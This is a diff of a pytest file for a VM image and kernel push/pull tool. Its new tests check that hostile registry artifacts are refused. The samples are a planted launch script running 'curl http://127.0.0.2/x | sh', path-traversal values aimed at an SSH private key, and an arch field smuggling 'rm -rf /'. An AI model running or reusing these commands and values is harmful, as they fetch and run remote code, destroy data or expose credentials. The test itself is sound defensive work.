@@ -8,17 +8,20 @@ from __future__ import annotations
 
 import base64
 import contextlib
+import hashlib
 import http.server
 import json
 import os
+import re
 import shutil
 import socket
 import subprocess
 import threading
 import time
 import urllib.parse
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 from click.testing import CliRunner, Result
@@ -36,8 +39,6 @@ from vmimg.artifact.artifact import (
     BUNDLE_CONFIG,
     KERNEL_ARTIFACT,
     TITLE,
-    RemoteBuild,
-    build_bundle_remote,
     fallback_tag,
     find_bundle,
     pull_bundle,
@@ -45,15 +46,17 @@ from vmimg.artifact.artifact import (
     pull_kernel,
     push_bundle,
 )
-from vmimg.bundle.build import BuildOptions, load_bundle
+from vmimg.bundle.build import BuildOptions
+from vmimg.bundle.format import read_vm_json
 from vmimg.cli import artifact as cli_artifact
-from vmimg.errors import SourceError
+from vmimg.errors import KernelError, SourceError
 from vmimg.guest.agent import ConfigOverrides
 from vmimg.guest.kernel import KernelInfo, find_or_build_kernel, load_kernel
 from vmimg.image.cache import Cache
 from vmimg.image.oci import OCI_INDEX, OCI_MANIFEST, Platform
 from vmimg.image.registry import RegistryClient
 from vmimg.image.sources import SourceOptions
+from vmimg.pipeline import RemoteBuild, build_bundle_remote
 
 OPTS = SourceOptions(Platform())
 
@@ -164,7 +167,7 @@ def test_push_pull_round_trip_and_what_skopeo_reads(
 ) -> None:
     bundle, built = pushed
     assert built.pushed is not None
-    vm = load_bundle(str(bundle))
+    vm = read_vm_json(str(bundle)).doc
 
     raw = skopeo_raw(f"docker://{reg.host}/sample:bundle", "--tls-verify=false")
     assert raw["mediaType"] == OCI_MANIFEST and raw["artifactType"] == BUNDLE_ARTIFACT
@@ -203,7 +206,7 @@ def test_discovery_by_subject_through_the_fallback_tag(
 ) -> None:
     bundle, built = pushed
     assert built.pushed is not None and built.pushed.referrers == "fallback-tag"
-    source_digest = load_bundle(str(bundle))["source"]["digest"]
+    source_digest = read_vm_json(str(bundle)).doc["source"]["digest"]
     # Debian's docker-registry 2.8 has no referrers API ...
     client = RegistryClient(reg.host)
     resp = client.request("GET", f"/v2/sample/referrers/{source_digest}", ok=(200, 404))
@@ -330,7 +333,9 @@ def test_kernel_push_pull_round_trip(
     there = Cache.open(str(tmp_path / "there"))
     info = pull_kernel(f"{reg.host}/kernels:6.1", there, OPTS)
     assert info.key == guest_kernel.key
-    assert info.directory == Path(there.root, "kernels", guest_kernel.key)
+    # Pulled kernels live apart from builds, keyed by the artifact: never under a build key.
+    assert info.directory.parent == Path(there.root, "kernels", "pulled")
+    assert not Path(there.root, "kernels", guest_kernel.key).exists()
     for name in ("kernel.json", "vmlinux", "bzImage", "config"):
         assert (info.directory / name).read_bytes() == (guest_kernel.directory / name).read_bytes()
     assert load_kernel(info.directory).version == guest_kernel.version
@@ -357,7 +362,7 @@ def test_push_pull_over_tls_with_basic_auth(
     ref = f"{host}/auth/sample:bundle"
     r = cli("push", str(bundle), ref, "--ca-cert", cert, "--json")
     assert r.exit_code == 0, r.output
-    assert json.loads(r.stdout)["subject"] == load_bundle(str(bundle))["source"]["digest"]
+    assert json.loads(r.stdout)["subject"] == read_vm_json(str(bundle)).doc["source"]["digest"]
     out = tmp_path / "out"
     r = cli("pull", f"docker://{host}/auth/sample:v1", "--from-image", "-o", str(out),
             "--ca-cert", cert)  # fmt: skip
@@ -576,3 +581,76 @@ def test_push_and_pull_with_token_auth(
         proc.terminate()
         proc.wait(10)
         tokens.close()
+
+
+# -- hostile artifacts ---------------------------------------------------------------------
+
+
+def _put_blob(client: RegistryClient, repo: str, data: bytes, tmp_path: Path) -> dict[str, Any]:
+    path = tmp_path / f"blob-{hashlib.sha256(data).hexdigest()[:12]}"
+    path.write_bytes(data)
+    digest = "sha256:" + hashlib.sha256(data).hexdigest()
+    client.upload_blob(repo, str(path), digest, len(data))
+    return {"digest": digest, "size": len(data)}
+
+
+def test_pulled_launch_scripts_are_never_the_registry_s(
+    pushed: tuple[Path, RemoteBuild], reg: Registry, tmp_path: Path
+) -> None:
+    """A bundle artifact whose launch/qemu.sh is hostile: the pulled bundle gets launchers
+    written from vm.json, not that script."""
+    bundle, _built = pushed
+    evil = tmp_path / "evil"
+    shutil.copytree(bundle, evil)
+    (evil / "launch" / "qemu.sh").write_text("#!/bin/sh\ncurl http://127.0.0.2/x | sh\n")
+    r = cli("push", str(evil), f"{reg.host}/sample:evil-launch")
+    assert r.exit_code == 0, r.output
+    out = tmp_path / "out"
+    r = cli("pull", f"{reg.host}/sample:evil-launch", "-o", str(out))
+    assert r.exit_code == 0, r.output
+    assert "127.0.0.2" not in (out / "launch" / "qemu.sh").read_text()
+    assert (out / "launch" / "qemu.sh").read_text() == (bundle / "launch" / "qemu.sh").read_text()
+
+
+@pytest.mark.parametrize(
+    ("change", "message"),
+    [
+        (lambda m: m.update(boot_image="../../../../root/.ssh/id_rsa"), "boot_image is not"),
+        (lambda m: m["files"].update({"../id_rsa": m["files"]["config"]}), "unknown file"),
+        (lambda m: m.update(key="../../x"), "no valid key"),
+        (lambda m: m.update(arch="x86_64; rm -rf /"), "unknown arch"),
+    ],
+)
+def test_hostile_kernel_artifacts_are_refused(
+    reg: Registry,
+    guest_kernel: KernelInfo,
+    tmp_path: Path,
+    change: Callable[[dict[str, Any]], None],
+    message: str,
+) -> None:
+    here = Cache.open(str(tmp_path / "here"))
+    shutil.copytree(guest_kernel.directory, Path(here.root, "kernels", guest_kernel.key))
+    r = cli("kernel", "push", guest_kernel.key[:8], f"{reg.host}/kernels:good", "--cache",
+            here.root)  # fmt: skip
+    assert r.exit_code == 0, r.output
+    client = RegistryClient(reg.host)
+    data, _ = client.get_manifest("kernels", "good", OCI_MANIFEST)
+    doc = json.loads(data)
+    meta = json.loads((guest_kernel.directory / "kernel.json").read_text())
+    change(meta)
+    blob = _put_blob(client, "kernels", json.dumps(meta).encode(), tmp_path)
+    doc["config"].update(blob)
+    client.put_manifest("kernels", "hostile", json.dumps(doc).encode(), OCI_MANIFEST)
+    there = Cache.open(str(tmp_path / "there"))
+    with pytest.raises(KernelError, match=re.escape(message)):
+        pull_kernel(f"{reg.host}/kernels:hostile", there, OPTS)
+    assert not any(Path(there.root, "kernels").glob("**/id_rsa"))
+    # `kernel list` survives whatever the cache holds.
+    junk = Path(there.root, "kernels", "0123456789abcdef")
+    junk.mkdir(parents=True)
+    (junk / "kernel.json").write_text(json.dumps(meta))
+    Path(there.root, "kernels", "pulled", "sha256-x").mkdir(parents=True)
+    Path(there.root, "kernels", "pulled", "sha256-x", "kernel.json").write_text("[1]")
+    r = cli("kernel", "list", "--cache", there.root)
+    assert r.exit_code == 0, r.output
+    assert "no kernels in the cache" in r.stdout
